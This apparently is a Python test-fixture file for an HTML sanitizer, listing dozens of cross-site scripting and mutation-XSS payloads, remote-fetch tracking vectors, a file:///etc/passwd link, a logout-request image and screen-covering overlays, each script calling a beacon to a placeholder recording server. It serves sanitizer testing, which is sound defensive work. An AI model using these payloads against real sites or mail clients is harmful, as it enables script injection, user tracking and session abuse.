"""HTML that tries to run, to call home, to cover the screen or to misuse a session.

``%S`` stands for the address of a recording server. What runs calls ``hit()``,
written so that it reports by every way a script has.
"""

from __future__ import annotations

HIT = (
    "try{parent.postMessage('hit','*')}catch(e){};"
    "try{top.postMessage('hit','*')}catch(e){};"
    "try{fetch('%S/script')}catch(e){};"
    "new Image().src='%S/script'"
)

SCRIPTS: dict[str, str] = {
    "script": f"<script>{HIT}</script>",
    "script, odd case": f"<ScRiPt >{HIT}</sCrIpT >",
    "script, remote": "<script src='%S/x.js'></script>",
    "script, no end": f"<script>{HIT}",
    "script in attribute": f'<p title="</p><script>{HIT}</script>">x</p>',
    "script after null": f"<scr\0ipt>{HIT}</scr\0ipt>",
    "split script": f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    "slashes": f'<img/src=x/onerror="{HIT}">',
    "onerror": f'<img src=x onerror="{HIT}">',
    "onerror, new line": f'<img src=x\nonerror\n=\n"{HIT}">',
    "onload body": f'<body onload="{HIT}">',
    "onfocus": f'<input autofocus onfocus="{HIT}">',
    "ontoggle": f'<details open ontoggle="{HIT}"><summary>x</summary></details>',
    "onanimation": (
        "<style>@keyframes x{}</style>"
        f'<p style="animation-name:x" onanimationstart="{HIT}">x</p>'
    ),
    "onbegin": f'<svg><animate onbegin="{HIT}" attributeName=x dur=1s></svg>',
    "svg onload": f'<svg onload="{HIT}"></svg>',
    "svg script": f"<svg><script>{HIT}</script></svg>",
    "svg use": (
        "<svg><use href=\"data:image/svg+xml,<svg id='x' "
        "xmlns='http://www.w3.org/2000/svg'><image href='1' "
        f'onerror=&quot;{HIT}&quot;/></svg>#x" /></svg>'
    ),
    "svg set": (
        "<svg><a xmlns:xlink='http://www.w3.org/1999/xlink'>"
        f'<set attributeName="href" to="javascript:{HIT}"/>'
        "<text x=20 y=20>click</text></a></svg>"
    ),
    "svg foreignObject": (
        f'<svg><foreignObject><img src=x onerror="{HIT}"></foreignObject></svg>'
    ),
    "svg desc": f'<svg><desc><img src=x onerror="{HIT}"></desc></svg>',
    "math": f'<math><mtext><img src=x onerror="{HIT}"></mtext></math>',
    "math href": f'<math href="javascript:{HIT}">click</math>',
    "math annotation": (
        '<math><annotation-xml encoding="text/html">'
        f'<img src=x onerror="{HIT}"></annotation-xml></math>'
    ),
    "mxss style": (
        f'<math><mtext><table><mglyph><style><img src=x onerror="{HIT}"></style>'
    ),
    "mxss form": (
        "<form><math><mtext></form><form><mglyph><style></math>"
        f'<img src=x onerror="{HIT}">'
    ),
    "mxss noscript": f'<noscript><p title="</noscript><img src=x onerror={HIT!r}>">',
    "mxss title": f'<svg></p><title><style></title><img src=x onerror="{HIT}">',
    "mxss comment": f'<!--><img src=x onerror="{HIT}">-->',
    "mxss comment bang": f'<!-- --!><img src=x onerror="{HIT}">-->',
    "mxss cdata": f'<svg><![CDATA[><image xlink:href="]]><img src=x onerror="{HIT}">',
    "mxss textarea": f'<textarea><p id="</textarea><img src=x onerror={HIT!r}>">',
    "mxss xmp": f'<xmp><p title="</xmp><img src=x onerror={HIT!r}>">',
    "mxss template": f'<template><img src=x onerror="{HIT}"></template>',
    "mxss select": f'<select><style></select><img src=x onerror="{HIT}"></style>',
    "mxss table": f'<table><td><svg><desc><table><img src=x onerror="{HIT}">',
    "mxss plaintext": f'<plaintext><img src=x onerror="{HIT}">',
    "mxss noembed": f'<noembed><p title="</noembed><img src=x onerror={HIT!r}>">',
    "mxss backtick": f'<img alt="``onerror={HIT!r} " src=x>',
    "mxss entities": f'<p title="&lt;img src=x onerror={HIT!r}&gt;">x</p>',
    "double encoding": f"&lt;script&gt;{HIT}&lt;/script&gt;",
    "javascript link": f'<a href="javascript:{HIT}">click</a>',
    "javascript, tab": f'<a href="java\tscript:{HIT}">click</a>',
    "javascript, new line": f'<a href="java\nscript:{HIT}">click</a>',
    "javascript, entities": f'<a href="&#106;avascript&colon;{HIT}">click</a>',
    "javascript, control": f'<a href="\x01javascript:{HIT}">click</a>',
    "javascript, case": f'<a href="JaVaScRiPt:{HIT}">click</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">click</a>',
    "data link": f'<a href="data:text/html,<script>{HIT}</script>">click</a>',
    "data image svg": (
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
        f'onload=&quot;{HIT}&quot;/>">'
    ),
    "blob link": '<a href="blob:https://example.com/1">click</a>',
    "file link": '<a href="file:///etc/passwd">click</a>',
    "iframe srcdoc": f'<iframe srcdoc="<script>{HIT}</script>"></iframe>',
    "iframe javascript": f'<iframe src="javascript:{HIT}"></iframe>',
    "object": f'<object data="data:text/html,<script>{HIT}</script>"></object>',
    "embed": f'<embed src="data:text/html,<script>{HIT}</script>">',
    "meta refresh script": f'<meta http-equiv=refresh content="0;javascript:{HIT}">',
    "base javascript": f'<base href="javascript:{HIT};//"><a href="x">click</a>',
    "form action": f'<form action="javascript:{HIT}"><button>click</button></form>',
    "formaction": f'<form><button formaction="javascript:{HIT}">x</button></form>',
    "isindex": f'<isindex type=image src=1 onerror="{HIT}">',
    "marquee": f'<marquee onstart="{HIT}">x</marquee>',
    "video": f'<video><source onerror="{HIT}"></video>',
    "audio": f'<audio src=x onerror="{HIT}"></audio>',
    "css expression": f'<p style="width:expression({HIT})">x</p>',
    "css behaviour": "<p style=\"behavior:url('%S/x.htc')\">x</p>",
    "css javascript": f"<p style=\"background-image:url('javascript:{HIT}')\">x</p>",
    "import attribute": '<link rel=import href="%S/import.html">',
    "unquoted": f"<a href=javascript:{HIT.replace(' ', '/**/')}>click</a>",
    "broken quotes": f'<img """><script>{HIT}</script>"\\>',
    "declaration": f'<!DOCTYPE x [<!ENTITY y "<script>{HIT}</script>">]>&y;',
    "processing": f'<?xml-stylesheet href="javascript:{HIT}"?>',
    "bogus comment": f'</ <img src=x onerror="{HIT}">>',
    "processing in svg": f'<svg><?xml-stylesheet ><img src=x onerror="{HIT}"> ?>',
    "declarative shadow": (
        "<div><template shadowrootmode=open>"
        f'<img src=x onerror="{HIT}"></template></div>'
    ),
    "content visibility": (
        f'<p oncontentvisibilityautostatechange="{HIT}" '
        'style="display:block;content-visibility:auto">x</p>'
    ),
    "before toggle": f'<details open onbeforetoggle="{HIT}">x</details>',
    "comment within annotation": (
        '<svg><annotation-xml encoding="text/html"><style><!--</style>'
        f'<p id="--><img src=x onerror={HIT!r}>">'
    ),
    "mxss beyond the depth a parser keeps": (
        "<div>" * 520 + "<table><caption><svg><title><table><caption></caption></table>"
        f'</title><style><a id="</style><img src=x onerror={HIT!r}>"></a></style></svg>'
    ),
    "mxss of heading in heading": (
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style>"
        f'<a title="</style><img src=x onerror={HIT!r}>"></style></h1>'
    ),
    "odd name": f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{HIT}</x:script>",
}

REMOTE: dict[str, str] = {
    "srcset": '<img srcset="%S/remote 2x">',
    "picture": '<picture><source srcset="%S/remote"><img></picture>',
    "background": '<table background="%S/remote"><tr><td background="%S/remote">x',
    "body background": '<body background="%S/remote">',
    "css url": '<p style="background:url(%S/remote)">x</p>',
    "css url, quoted": "<p style=\"background-image:url('%S/remote')\">x</p>",
    "css escape": '<p style="background:u\\72l(%S/remote)">x</p>',
    "css comment": '<p style="background:ur/**/l(%S/remote)">x</p>',
    "css image-set": "<p style=\"background:image-set('%S/remote' 1x)\">x</p>",
    "css cross-fade": '<p style="background:cross-fade(url(%S/remote),red)">x</p>',
    "css src": "<p style=\"background:src('%S/remote')\">x</p>",
    "css old image-set": (
        '<p style="background:-webkit-image-set(url(%S/remote) 1x)">x</p>'
    ),
    "css offset-path": '<p style="offset-path:url(%S/remote)">x</p>',
    "css attr as image": (
        '<p data-x="url(%S/remote)" style="background:attr(data-x type(<image>))">x</p>'
    ),
    "style in a shadow": (
        "<div><template shadowrootmode=open><style>@import '%S/remote';</style>"
        "</template></div>"
    ),
    "speculation rules": (
        '<script type=speculationrules>{"prefetch":[{"source":"list",'
        '"urls":["%S/remote"]}]}</script>'
    ),
    "attribution": "<a href='x:' attributionsrc='%S/remote'>x</a>",
    "css variable": '<p style="--a:url(%S/remote);background:var(--a)">x</p>',
    "css list": '<ul style="list-style:url(%S/remote)"><li>x</ul>',
    "css list image": '<ul style="list-style-image:url(%S/remote)"><li>x</ul>',
    "css cursor": '<p style="cursor:url(%S/remote),auto">x</p>',
    "css content": '<p style="content:url(%S/remote)">x</p>',
    "css border": '<p style="border-image:url(%S/remote) 1">x</p>',
    "css mask": '<p style="mask:url(%S/remote)">x</p>',
    "css filter": '<p style="filter:url(%S/remote#f)">x</p>',
    "css shape": '<p style="shape-outside:url(%S/remote);float:left">x</p>',
    "css font": "<style>@font-face{font-family:f;src:url(%S/remote)}</style>"
    '<p style="font-family:f">x</p>',
    "css import": "<style>@import url(%S/remote);</style>",
    "css import string": '<style>@import "%S/remote";</style>',
    "style element": "<style>p{background:url(%S/remote)}</style><p>x</p>",
    "link": '<link rel=stylesheet href="%S/remote">',
    "link preload": '<link rel=preload as=image href="%S/remote">',
    "link icon": '<link rel=icon href="%S/remote">',
    "link prefetch": '<link rel="prefetch preconnect dns-prefetch" href="%S/remote">',
    "iframe": '<iframe src="%S/remote"></iframe>',
    "frameset": '<frameset><frame src="%S/remote"></frameset>',
    "object": '<object data="%S/remote"></object>',
    "embed": '<embed src="%S/remote">',
    "video poster": '<video poster="%S/remote" src="%S/remote" autoplay></video>',
    "audio": '<audio src="%S/remote" autoplay></audio>',
    "track": '<video><track src="%S/remote" default></video>',
    "input image": '<input type=image src="%S/remote">',
    "svg image": '<svg><image href="%S/remote" width=9 height=9 /></svg>',
    "svg feImage": '<svg><filter id=f><feImage href="%S/remote"/></filter></svg>',
    "svg use": '<svg><use href="%S/remote#a"/></svg>',
    "svg fill": '<svg><rect width=9 height=9 fill="url(%S/remote#a)"/></svg>',
    "svg style": "<svg><style>@import url(%S/remote);</style></svg>",
    "manifest": '<html manifest="%S/remote">',
    "meta refresh": '<meta http-equiv=refresh content="0;url=%S/remote">',
    "base": '<base href="%S/"><img src="remote">',
    "form": '<form action="%S/remote"><button autofocus>x</button></form>',
    "ping": '<a href="https://example.com" ping="%S/remote">x</a>',
    "lowsrc": '<img lowsrc="%S/remote" dynsrc="%S/remote">',
    "longdesc": '<img longdesc="%S/remote">',
    "applet": '<applet code="%S/remote"></applet>',
    "bgsound": '<bgsound src="%S/remote">',
    "layer": '<layer src="%S/remote"></layer>',
    "relative image": '<img src="/remote">',
    "logout image": '<img src="/web/session/logout">',
    "relative, dots": '<img src="../../remote">',
    "relative, query": '<img src="?remote">',
    "backslashes": '<img src="\\\\remote.example\\x">',
    "backslash root": '<img src="/\\remote.example/x">',
}
"""Calls home by other ways than an image the rep may ask for."""

IMAGES: dict[str, tuple[str, int]] = {
    "plain": ('<img src="%S/image/plain">', 1),
    "upper case": ('<IMG SRC="%S/image/upper">', 1),
    "unquoted": ("<img src=%S/image/unquoted>", 1),
    "entities": ('<img src="&#104;ttp:%T/image/entities">', 1),
    "no scheme": ('<img src="%T/image/noscheme">', 1),
    "spaces": ('<img src="  %S/image/spaces  ">', 1),
    "new line": ('<img src="ht\ntp:%T/image/newline">', 1),
    "pixel": ('<img src="%S/image/pixel" width=1 height=1>', 1),
    "nested": ('<table><tr><td><a href="%S/x"><img src="%S/image/nested"></a>', 1),
}
"""Remote images: HTML and how many; ``%T`` is the server without its scheme."""

OVERLAYS: dict[str, str] = {
    "position": '<div style="position:fixed;inset:0;z-index:99999">x</div>',
    "class": '<div class="modal show d-block position-fixed">x</div>',
    "id": '<div id="wrapwrap">x</div>',
    "template": '<div t-on-click="x" t-esc="y" t-out="z">x</div>',
    "bootstrap": '<a data-bs-toggle="modal" data-bs-target="#x" role=button>x</a>',
    "contenteditable": "<p contenteditable tabindex=1 accesskey=s draggable>x</p>",
    "popover": "<button popovertarget=x>x</button><div popover id=x>x</div>",
    "dialog": "<dialog open>x</dialog>",
    "style": "<style>body{display:none}</style>",
    "transform": '<p style="transform:translate(-999px);opacity:0">x</p>',
    "negative margin": '<p style="margin-top:-9999px">x</p>',
    "name": '<a name="x"></a><img name="y"><form name="z"></form>',
}
"""Would be painted, or found, outside the message."""
